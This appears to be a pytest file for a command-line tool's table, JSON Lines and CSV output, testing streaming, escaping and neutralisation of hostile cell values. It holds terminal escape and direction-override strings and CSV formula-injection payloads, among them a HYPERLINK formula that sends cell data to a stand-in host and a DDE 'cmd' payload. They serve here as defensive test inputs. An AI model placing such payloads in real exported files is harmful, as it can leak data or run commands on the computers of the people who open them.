"""Rows as table, JSON Lines and CSV: streaming, complete, harmless on a terminal."""

from __future__ import annotations

import csv
import io
import json
import sys
from collections.abc import Iterator
from datetime import UTC, datetime, timedelta, timezone
from typing import Any

import click
import pytest
from click.testing import CliRunner

from carbonseal.keys import tables

COLUMNS = ("name", "value")
NASTY = "a\x1b[31mred\x07\r\nb\udcff [bold]x[/bold] \x9b\u202e"


@click.command()
@tables.output_options
@click.pass_obj
def show(rows: Any, output_format: str) -> None:
    tables.write_rows(rows, COLUMNS, output_format)


def run(rows: Any, *arguments: str) -> str:
    done = CliRunner().invoke(show, list(arguments), obj=rows, catch_exceptions=False)
    assert done.exit_code == 0
    return done.stdout


def test_json_lines_carry_all_keys_and_are_ascii() -> None:
    """One object a line, extra keys too, times in UTC, bytes that were no UTF-8 escaped."""
    moment = datetime(2026, 11, 21, 13, tzinfo=timezone(timedelta(hours=1)))
    row = {"name": NASTY, "value": [moment, {"n": None}], "more": (1, True)}
    output = run([row, row], "--format", "jsonl")
    assert output.isascii()
    first, second = (json.loads(line) for line in output.splitlines())
    assert first == second
    assert first["name"] == NASTY
    assert first["value"] == ["2026-11-21T12:00:00Z", {"n": None}]
    assert first["more"] == [1, True]
    assert run([row, row], "--json") == output


def test_csv_has_a_head_and_one_line_a_row() -> None:
    """A spreadsheet reads it; line ends inside a cell cannot break a row."""
    rows = [{"name": NASTY, "value": None}, {"name": 'q"u,ote', "value": ["a", "b"]}, {}]
    read = list(csv.reader(io.StringIO(run(rows, "--format", "csv"))))
    assert read[0] == ["name", "value"]
    assert read[1][0].startswith("a\\x1b[31mred\\x07\\r\\nb\\udcff")
    assert read[2] == ['q"u,ote', "a b"]
    assert read[3] == ["", ""]


@pytest.mark.parametrize("output_format", ["table", "csv"])
def test_what_mail_brings_cannot_play_with_the_terminal(output_format: str) -> None:
    """No control character, no direction override, no markup gets through."""
    output = run([{"name": NASTY, "value": 1}], "--format", output_format)
    assert all(char.isprintable() or char in "\r\n" for char in output)
    assert "[bold]x[/bold]" in output


FORMULAS = [
    pytest.param('=HYPERLINK("http://x.test/?"&A1)', id="equals"),
    pytest.param("+1@x.example", id="plus"),
    pytest.param("-2+3+cmd|' /C calc'!A0", id="minus"),
    pytest.param("@SUM(1)", id="at"),
    pytest.param("  =1+1", id="after-blanks"),
    pytest.param("\uff1d1+1", id="full-width"),
    pytest.param(["=1+1", "b"], id="list"),
]


@pytest.mark.parametrize("value", FORMULAS)
def test_csv_holds_no_formula(value: object) -> None:
    """A subject that a spreadsheet would calculate becomes text; numbers and JSON stay exact."""
    rows = [{"name": value, "value": -1}]
    read = list(csv.reader(io.StringIO(run(rows, "--format", "csv"))))
    assert read[1] == ["'" + tables.cell(value), "-1"]
    assert json.loads(run(rows, "--json"))["name"] == value


def test_a_table_is_not_cut_when_it_goes_to_a_file() -> None:
    """A pipe has no width."""
    assert "x" * 1000 in run([{"name": "x" * 1000, "value": datetime(2026, 1, 1, tzinfo=UTC)}])


@pytest.mark.parametrize("output_format", ["jsonl", "csv", "table"])
def test_rows_are_written_while_they_come(output_format: str) -> None:
    """The source is never asked for all rows before the first are out."""
    written: list[int] = []

    @click.command()
    @click.pass_context
    def stream(context: click.Context) -> None:
        out = sys.stdout

        def rows() -> Iterator[tables.Row]:
            for number in range(1200):
                if number == 1100:
                    out.flush()
                    written.append(len(out.buffer.getvalue()))  # type: ignore[attr-defined]
                yield {"name": number, "value": "v"}

        assert tables.write_rows(rows(), COLUMNS, output_format) == 1200

    assert CliRunner().invoke(stream, catch_exceptions=False).exit_code == 0
    assert written[0] > 0
